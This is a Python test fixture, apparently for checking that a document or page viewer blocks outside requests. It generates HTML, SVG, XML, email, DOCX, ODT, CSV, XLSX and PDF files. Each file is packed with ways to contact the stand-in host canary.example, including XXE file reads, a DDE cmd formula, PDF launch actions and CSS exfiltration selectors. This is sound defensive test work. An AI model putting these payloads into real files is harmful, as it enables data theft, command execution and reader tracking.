"""Ways to have a viewer fetch something, or open a file: pages, documents and mails with them.

Each leads to the host `canary.example`, or to a file in a folder named `canary`.
"""

from __future__ import annotations

import io
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass

from tests.web.bombs import pdf

HOST = "canary.example"
FOLDER = "/var/tmp/canary"  # noqa: S108 - nothing is put there
"""Nothing is there, and nothing may be looked for there."""


@dataclass(frozen=True, slots=True, kw_only=True)
class Trap:
    """A file with ways to fetch something in it."""

    name: str
    data: bytes
    ways: int


_TAGS = (
    """
<img src="{u}">
<img srcset="{u} 1x, {u}2 2x">
<img src="a.png" data-src="{u}" loading="lazy" longdesc="{u}d" lowsrc="{u}l" dynsrc="{u}y">
<img src="{u}" crossorigin="use-credentials" onerror="new Image().src='{u}e'">
<img src=x onerror="fetch('{u}')">
<img usemap="{u}#m" src="{u}.gif" style="content:url({u})">
<picture><source srcset="{u}"><source media="(min-width:1px)" srcset="{u}m"></picture>
<noscript><img src="{u}"></noscript>
<template><img src="{u}"></template>
<input type="image" src="{u}">
<table background="{u}"><tr background="{u}r"><td background="{u}d">x</table>
<div style="background:url({u})">x</div>
<div style="background-image:image-set('{u}' 1x)">x</div>
<div style="list-style-image:url('{u}');display:list-item">x</div>
<div style="cursor:url({u}),auto">x</div>
<div style="border-image:url({u}) 1">x</div>
<div style="mask:url({u}#m);-webkit-mask-image:url({u})">x</div>
<div style="filter:url({u}#f);clip-path:url({u}#c)">x</div>
<div style="shape-outside:url({u});float:left">x</div>
<div style="behavior:url({u});-moz-binding:url({u}#b)">x</div>
<div style="width:expression(new Image().src='{u}')">x</div>
<div style="--v:url({u});background:var(--v)">x</div>
<style>@import "{u}";</style>
<style>@import url({u}) print;</style>
<style>@font-face{{font-family:f;src:url({u})}} p{{font-family:f}}</style>
<style>p::before{{content:url({u})}}</style>
<style>input[value^="a"]{{background:url({u})}}</style>
<style>@namespace svg url({u}); @page{{background:url({u})}}</style>
<style onload="new Image().src='{u}'"></style>
<link rel="stylesheet" href="{u}">
<link rel="alternate stylesheet" title="t" href="{u}">
<link rel="stylesheet" media="print" href="{u}">
<link rel="icon" href="{u}"><link rel="shortcut icon" href="{u}s">
<link rel="apple-touch-icon" href="{u}"><link rel="mask-icon" href="{u}m">
<link rel="preload" as="image" href="{u}">
<link rel="prefetch" href="{u}">
<link rel="prerender" href="{u}">
<link rel="preconnect" href="{u}">
<link rel="dns-prefetch" href="{u}">
<link rel="modulepreload" href="{u}">
<link rel="manifest" href="{u}">
<link rel="import" href="{u}">
<link rel="search" type="application/opensearchdescription+xml" href="{u}">
<link rel="alternate" type="application/rss+xml" href="{u}">
<link rel="alternate" type="application/json+oembed" href="{u}">
<link rel="canonical" href="{u}"><link rel="amphtml" href="{u}a"><link rel="next" href="{u}n">
<link rel="pingback" href="{u}"><link rel="webmention" href="{u}w">
<link rel="expect" href="{u}" blocking="render">
<meta http-equiv="refresh" content="0;url={u}">
<meta http-equiv="Link" content="<{u}>; rel=preload; as=style">
<meta http-equiv="Content-Security-Policy" content="img-src 'none'; report-uri {u}">
<meta http-equiv="Content-Security-Policy-Report-Only" content="default-src 'none'; report-to {u}">
<meta property="og:image" content="{u}"><meta property="og:video" content="{u}v">
<meta name="twitter:image" content="{u}"><meta name="twitter:player" content="{u}p">
<meta name="msapplication-config" content="{u}"><meta name="msapplication-TileImage" content="{u}">
<base href="{u}/"><img src="relative.png"><a href="relative">x</a>
<iframe src="{u}"></iframe>
<iframe srcdoc="&lt;img src='{u}'&gt;"></iframe>
<iframe srcdoc="&lt;meta http-equiv=refresh content='0;url={u}'&gt;"></iframe>
<iframe src="data:text/html,<img src='{u}'>"></iframe>
<iframe src="javascript:new Image().src='{u}'"></iframe>
<frameset><frame src="{u}"></frameset>
<object data="{u}"></object>
<object classid="{u}" codebase="{u}c" archive="{u}a"><param name="movie" value="{u}m"></object>
<embed src="{u}" pluginspage="{u}p">
<applet code="x" codebase="{u}" archive="{u}a"></applet>
<audio src="{u}" autoplay></audio>
<audio><source src="{u}"></audio>
<video src="{u}" autoplay preload="auto"></video>
<video poster="{u}"></video>
<video><source src="{u}"><track default src="{u}t" kind="captions"></video>
<bgsound src="{u}"><xml src="{u}x"></xml>
<svg><image href="{u}" width="9" height="9"/></svg>
<svg><image xlink:href="{u}" width="9" height="9"/></svg>
<svg><use href="{u}#a"/></svg>
<svg><filter id="f"><feImage href="{u}"/></filter><rect filter="url(#f)"/></svg>
<svg><style>@import url({u});</style><rect fill="url({u}#g)"/></svg>
<svg><script href="{u}"></script></svg>
<svg><foreignObject><img src="{u}"/></foreignObject></svg>
<svg><a href="{u}"><animate attributeName="href" to="{u}b" begin="0s"/><text>x</text></a></svg>
<svg><set attributeName="href" to="{u}"/><textPath href="{u}#t">x</textPath></svg>
<svg><cursor xlink:href="{u}"/><font-face-uri xlink:href="{u}f"/><mpath xlink:href="{u}m"/></svg>
<math><mi href="{u}" xlink:href="{u}m">x</mi><mglyph src="{u}g"/></math>
<script src="{u}"></script>
<script type="module">import "{u}";</script>
<script type="importmap">{{"imports":{{"a":"{u}"}}}}</script>
<script type="speculationrules">{{"prefetch":[{{"source":"list","urls":["{u}"]}}]}}</script>
<script>fetch("{u}")</script>
<script>new Image().src="{u}"</script>
<script>navigator.sendBeacon("{u}")</script>
<script>new WebSocket("{u}".replace("http","ws"))</script>
<script>new EventSource("{u}")</script>
<script>new Worker("{u}");importScripts("{u}i")</script>
<script>new XMLHttpRequest().open("GET","{u}")</script>
<script>new RTCPeerConnection({{iceServers:[{{urls:"stun:canary.example"}}]}})</script>
<script>location="{u}"</script>
<script>open("{u}");document.write("<img src={u}w>")</script>
<script type="application/ld+json">{{"@context":"{u}","@type":"NewsArticle","headline":"x",
"image":"{u}i","publisher":{{"logo":{{"url":"{u}l"}}}},"url":"{u}u"}}</script>
<a href="{u}" ping="{u}p">x</a>
<map name="m"><area href="{u}" ping="{u}p"></map>
<form action="{u}"><input autofocus onfocus="this.form.submit()"><button formaction="{u}b">x</form>
<blockquote cite="{u}">x</blockquote><q cite="{u}q">x</q><ins cite="{u}i">x</ins>
<body background="{u}" onload="new Image().src='{u}o'">
<html manifest="{u}">
<head profile="{u}">
<layer src="{u}"></layer><ilayer src="{u}i"></ilayer>
<portal src="{u}"></portal><fencedframe src="{u}f"></fencedframe>
<marquee onstart="new Image().src='{u}'">x</marquee>
<details ontoggle="fetch('{u}')" open>x</details>
<isindex action="{u}" src="{u}s">
<!--[if IE]><img src="{u}"><![endif]--><comment><img src="{u}c"></comment>
<?xml-stylesheet href="{u}"?><?import namespace="x" implementation="{u}i"?>
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='{u}'/></svg>">
<p style="background:url(&quot;{u}&quot;)" onmouseover="fetch('{u}')">x</p>
<img src="&#104;ttp://canary.example/entity"><img src="ht&Tab;tp://canary.example/tab">
<img src="{u}" referrerpolicy="unsafe-url"><a href="{u}" rel="prefetch">x</a>
<tt><img src='{u}'//onerror='x'></tt><img/src="{u}"/><img src={u}>
<del datetime="x" cite="{u}">x</del><command icon="{u}"><menuitem icon="{u}i">
""".strip()
    .replace(',\n"image"', ',"image"')
    .split("\n")
)
_OTHERS = (
    "https://canary.example/s",
    "//canary.example/relative",
    "ftp://canary.example/f",
    "ws://canary.example/w",
    "file:///var/tmp/canary/image.png",
    "file://canary.example/share/a.png",
    "file:/var/tmp/canary/b.png",
    "/var/tmp/canary/c.png",  # noqa: S108
    "../../../../../../var/tmp/canary/d.png",
    "\\\\canary.example\\share\\a.png",
    "//canary.example/share/a.png",
    "\\\\canary.example@80\\a\\b",
    "smb://canary.example/share/a.png",
    "qrc:/var/tmp/canary/e.png",
    ":/var/tmp/canary/f.png",
    "image://canary/x",
    "jar:http://canary.example/a.jar!/b",
    "mhtml:http://canary.example/a.mht",
    "view-source:http://canary.example/",
    "blob:http://canary.example/1",
    "http://canary.example:8080/port",
    "http://user:pass@canary.example/",
    "dav://canary.example/x",
    "ms-word:ofe|u|http://canary.example/a.docx",
    "search-ms:query=x&crumb=location:canary.example",
    "http://192.0.2.77/canary",
    "http://[2001:db8::77]/canary",
    "http://canary.example./dot",
)
"""Addresses of other kinds, each tried as picture, style sheet, frame and link."""


def traps() -> Iterator[Trap]:
    """Make every file."""
    yield from _pages()
    yield from _marked_up()
    yield from _mails()
    yield from _documents()
    yield from _tables()
    yield Trap(name="actions.pdf", data=_pdf(), ways=12)


def _pages() -> Iterator[Trap]:
    for at in range(0, len(_TAGS), 25):
        some = [
            tag.format(u=f"http://{HOST}/h{at + n}") for n, tag in enumerate(_TAGS[at : at + 25])
        ]
        yield _page(f"page-{at}.html", some)
    kinds = (
        '<img src="{}">',
        '<link rel=stylesheet href="{}">',
        '<iframe src="{}"></iframe>',
        '<a href="{}">x</a>',
    )
    yield _page("other.html", [kind.format(each) for kind in kinds for each in _OTHERS])


def _page(name: str, tags: list[str]) -> Trap:
    words = "".join(
        f"<p>In the year {1900 + n} the roof of the harbour bridge cost {n * 7919} crowns, which "
        f"the council paid in {n + 2} parts, as the minutes of {name} say.</p>"
        for n in range(12)
    )
    body = "\n".join(tags)
    page = f"<!doctype html><title>{name}</title><article>{words}{body}</article>{words}"
    return Trap(name=name, data=page.encode(), ways=len(tags))


def _marked_up() -> Iterator[Trap]:
    u = f"http://{HOST}/x"
    yield Trap(
        name="drawing.svg",
        data=(
            f'<?xml version="1.0"?><?xml-stylesheet href="{u}1"?><!DOCTYPE svg SYSTEM "{u}2" '
            f'[<!ENTITY e SYSTEM "{u}3"><!ENTITY f SYSTEM "file://{FOLDER}/secret">]>'
            f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
            f'<image xlink:href="{u}4"/><use xlink:href="{u}5#a"/><style>@import url({u}6)</style>'
            f"<text>&e;&f; The drawing says two million crowns.</text></svg>"
        ).encode(),
        ways=7,
    )
    yield Trap(
        name="feed.xml",
        data=(
            f'<?xml version="1.0"?><!DOCTYPE rss PUBLIC "-//X" "{u}7" [<!ENTITY % p SYSTEM "{u}8">'
            f' %p; <!ENTITY e SYSTEM "file://{FOLDER}/secret">]><rss version="2.0"><channel>'
            f'<item><title>&e; Crowns</title><enclosure url="{u}9"/></item>'
            f'<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="{u}10"/></x>'
            f"</channel></rss>"
        ).encode(),
        ways=5,
    )
    yield Trap(
        name="page.xhtml",
        data=(
            f'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="{u}11"?>'
            f'<!DOCTYPE html SYSTEM "{u}12"><html xmlns="http://www.w3.org/1999/xhtml"><body>'
            f'<p>Two million crowns.</p><img src="{u}13" alt=""/></body></html>'
        ).encode(),
        ways=3,
    )
    yield Trap(
        name="talk.vtt",
        data=(
            f"WEBVTT\n\nSTYLE\n::cue {{background:url({u}14)}}\n\n00:01.000 --> 00:02.000\n"
            f'<img src="{u}15">Two million crowns.\n'
        ).encode(),
        ways=2,
    )
    yield Trap(
        name="talk.srt",
        data=(
            "1\n00:00:01,000 --> 00:00:02,000\n"
            f'<font face="{u}16"><img src="{u}17">Two million crowns.</font>\n'
        ).encode(),
        ways=2,
    )
    yield Trap(
        name="note.txt",
        data=f'<html><img src="{u}18"> ![x]({u}19) Two million crowns, it says here.'.encode(),
        ways=2,
    )


def _mails() -> Iterator[Trap]:
    u = f"http://{HOST}/m"
    html = f'<p>Two million crowns.<img src="{u}1"><img src="cid:a"><link rel=stylesheet href={u}2>'
    about = (
        "From: a@sender.example\r\nTo: b@desk.example\r\nSubject: <img src=" + u + "3>\r\n"
        f"Date: Wed, 7 Jan 2026 12:00:00 +0000\r\nList-Unsubscribe: <{u}4>\r\nX-Image-Url: {u}5\r\n"
        f"Disposition-Notification-To: spy@{HOST}\r\nContent-Base: {u}6\r\nMIME-Version: 1.0\r\n"
    )
    parts = (
        'Content-Type: multipart/related; boundary="b"\r\n\r\n--b\r\n'
        f"Content-Type: text/html\r\nContent-Location: {u}7\r\n\r\n{html}\r\n--b\r\n"
        f'Content-Type: message/external-body; access-type=URL; URL="{u}8"\r\n\r\n'
        "Content-Type: image/png\r\nContent-ID: <a>\r\n\r\n--b\r\n"
        f'Content-Type: image/png; name="//{HOST}/a.png"\r\n'
        f"Content-Location: file://{FOLDER}/a.png\r\n\r\nx\r\n--b--\r\n"
    )
    yield Trap(name="letter.eml", data=(about + parts).encode(), ways=10)
    saved = (
        f"From: <Saved>\r\nSubject: Saved\r\nSnapshot-Content-Location: {u}9\r\n"
        "MIME-Version: 1.0\r\n"
    )
    yield Trap(name="saved.mhtml", data=(saved + parts).encode(), ways=5)


def _documents() -> Iterator[Trap]:
    u = f"http://{HOST}/d"
    word = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    kinds = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    package = "http://schemas.openxmlformats.org/package/2006"

    def relations(*found: tuple[str, str, str]) -> str:
        lines = "".join(
            f'<Relationship Id="{ident}" Type="{kinds}/{kind}" Target="{target}"'
            + (' TargetMode="External"/>' if "//" in target or "\\" in target else "/>")
            for ident, kind, target in found
        )
        return f'<Relationships xmlns="{package}/relationships">{lines}</Relationships>'

    main = "application/vnd.openxmlformats-officedocument.wordprocessingml"
    yield Trap(
        name="letter.docx",
        data=_zipped({
            "[Content_Types].xml": f'<?xml version="1.0"?><Types xmlns="{package}/content-types">'
            '<Default Extension="rels" ContentType='
            '"application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            f'<Override PartName="/word/document.xml" ContentType="{main}.document.main+xml"/>'
            f'<Override PartName="/word/settings.xml" ContentType="{main}.settings+xml"/></Types>',
            "_rels/.rels": relations(("r1", "officeDocument", "word/document.xml")),
            "word/_rels/document.xml.rels": relations(
                ("r1", "settings", "settings.xml"), ("r2", "image", f"{u}1"),
                ("r3", "hyperlink", f"{u}2"), ("r4", "subDocument", f"{u}3"),
                ("r5", "oleObject", f"\\\\{HOST}\\share\\a.doc"), ("r6", "frame", f"{u}4"),
                ("r7", "image", f"file://{FOLDER}/a.png"), ("r8", "aFChunk", f"{u}5"),
            ),
            "word/_rels/settings.xml.rels": relations(("r1", "attachedTemplate", f"{u}6.dotm")),
            "word/settings.xml": f'<w:settings xmlns:w="{word}" xmlns:r="{kinds}">'
            '<w:attachedTemplate r:id="r1"/></w:settings>',
            "word/document.xml": f'<w:document xmlns:w="{word}" xmlns:r="{kinds}"><w:body>'
            "<w:p><w:r>"
            "<w:t>Two million crowns, the letter says.</w:t></w:r></w:p><w:p><w:r>"
            f'<w:instrText>INCLUDEPICTURE "{u}7" \\d</w:instrText></w:r><w:r>'
            f'<w:instrText>DDEAUTO "{u}8" a</w:instrText></w:r></w:p>'
            '<w:subDoc r:id="r4"/><w:altChunk r:id="r8"/></w:body></w:document>',
        }),
        ways=11,
    )  # fmt: skip
    office = "urn:oasis:names:tc:opendocument:xmlns"
    yield Trap(
        name="letter.odt",
        data=_zipped({
            "mimetype": "application/vnd.oasis.opendocument.text",
            "META-INF/manifest.xml": f'<manifest xmlns="{office}:manifest:1.0"/>',
            "content.xml": f'<!DOCTYPE x SYSTEM "{u}9"><office:document-content '
            f'xmlns:office="{office}:office:1.0" xmlns:text="{office}:text:1.0" '
            f'xmlns:draw="{office}:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink">'
            f'<office:scripts><office:script xlink:href="{u}10"/></office:scripts>'
            "<office:body><office:text><text:p>Two million crowns, the text says.</text:p>"
            f'<draw:frame><draw:image xlink:href="{u}11"/></draw:frame>'
            f'<draw:frame><draw:object xlink:href="file://{FOLDER}/o"/></draw:frame>'
            f'<text:section><text:section-source xlink:href="{u}12"/></text:section>'
            "</office:text></office:body></office:document-content>",
        }),
        ways=5,
    )  # fmt: skip


def _tables() -> Iterator[Trap]:
    u = f"http://{HOST}/t"
    formulas = (f'=WEBSERVICE("{u}1")', f'=IMAGE("{u}2")', f'=HYPERLINK("{u}3")',
                f"=cmd|'/C {u}4'!A1", f"='\\\\{HOST}\\[a.xlsx]S'!A1")  # fmt: skip
    yield Trap(
        name="sums.csv",
        data="\n".join(f'{n},"{f.replace(chr(34), chr(34) * 2)}"' for n, f in enumerate(formulas))
        .encode(),
        ways=len(formulas),
    )  # fmt: skip
    book = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    kinds = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    package = "http://schemas.openxmlformats.org/package/2006"
    sheet = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    relation = (
        f'<?xml version="1.0"?><Relationships xmlns="{package}/relationships">{{}}</Relationships>'
    )
    yield Trap(
        name="sums.xlsx",
        data=_zipped({
            "[Content_Types].xml": f'<?xml version="1.0"?><Types xmlns="{package}/content-types">'
            '<Default Extension="rels" ContentType='
            '"application/vnd.openxmlformats-package.relationships+xml"/>'
            f'<Override PartName="/xl/workbook.xml" ContentType="{sheet}.sheet.main+xml"/>'
            f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{sheet}.worksheet+xml"/>'
            "</Types>",
            "_rels/.rels": relation.format(
                f'<Relationship Id="r1" Type="{kinds}/officeDocument" Target="xl/workbook.xml"/>'
            ),
            "xl/_rels/workbook.xml.rels": relation.format(
                f'<Relationship Id="r1" Type="{kinds}/worksheet" Target="worksheets/sheet1.xml"/>'
                f'<Relationship Id="r2" Type="{kinds}/externalLinkPath" Target="{u}5" '
                'TargetMode="External"/>'
            ),
            "xl/workbook.xml": f'<workbook xmlns="{book}" xmlns:r="{kinds}"><sheets>'
            '<sheet name="S" sheetId="1" r:id="r1"/></sheets><externalReferences>'
            '<externalReference r:id="r2"/></externalReferences></workbook>',
            "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{book}" xmlns:r="{kinds}"><sheetData>'
            f'<row r="1"><c r="A1" t="str"><f>WEBSERVICE("{u}6")</f><v>Two million</v></c></row>'
            f'</sheetData><hyperlinks><hyperlink ref="A1" location="{u}7"/></hyperlinks>'
            '<picture r:id="r9"/></worksheet>',
        }),
        ways=4,
    )  # fmt: skip


def _zipped(members: dict[str, str]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as packed:
        for name, text in members.items():
            packed.writestr(name, text)
    return out.getvalue()


def _pdf() -> bytes:
    u = b"http://canary.example/p"
    actions = [
        b"<</S/URI/URI(%s1)>>" % u,
        b"<</S/Launch/F(//canary.example/share/a.exe)/NewWindow true>>",
        b"<</S/GoToR/F(\\\\\\\\canary.example\\\\share\\\\b.pdf)/D[0/Fit]>>",
        b"<</S/SubmitForm/F<</FS/URL/F(%s2)>>/Flags 4>>" % u,
        b"<</S/JavaScript/JS(app.launchURL\\('%s3'\\);this.getURL\\('%s4'\\))>>" % (u, u),
        b"<</S/ImportData/F(/var/tmp/canary/data.fdf)>>",
        b"<</S/GoToE/F<</FS/URL/F(%s5)>>/D[0/Fit]>>" % u,
        b"<</S/Thread/F(/var/tmp/canary/thread.pdf)/D 0>>",
        b"<</S/Rendition/OP 0/R<</S/MR/C<</S/MCD/D<</FS/URL/F(%s6)>>>>>>>>" % u,
    ]
    first = 7
    annots = b"".join(
        b"<</Type/Annot/Subtype/Link/Rect[0 %d 600 %d]/A %d 0 R>>"
        % (50 * n, 50 * n + 50, first + n)
        for n in range(len(actions))
    )
    text = b"BT /F1 24 Tf 50 700 Td (Two million crowns, it says.) Tj ET q 9 0 0 9 0 0 cm /I Do Q"
    return pdf([
        b"<</Type/Catalog/Pages 2 0 R/OpenAction %d 0 R/AA<</WC %d 0 R>>/URI<</Base(%s7)>>>>"
        % (first + 4, first, u),
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R/AA<</O %d 0 R>>"
        b"/Resources<</Font<</F1 5 0 R>>/XObject<</I 6 0 R>>>>/Annots[%s]>>" % (first, annots),
        b"<</Length %d>>stream\n%s\nendstream" % (len(text), text),
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        b"<</Type/XObject/Subtype/Image/Width 9/Height 9/ColorSpace/DeviceGray/BitsPerComponent 8"
        b"/F<</FS/URL/F(%s8)>>/Length 0>>stream\n\nendstream" % u,
        *actions,
    ])  # fmt: skip
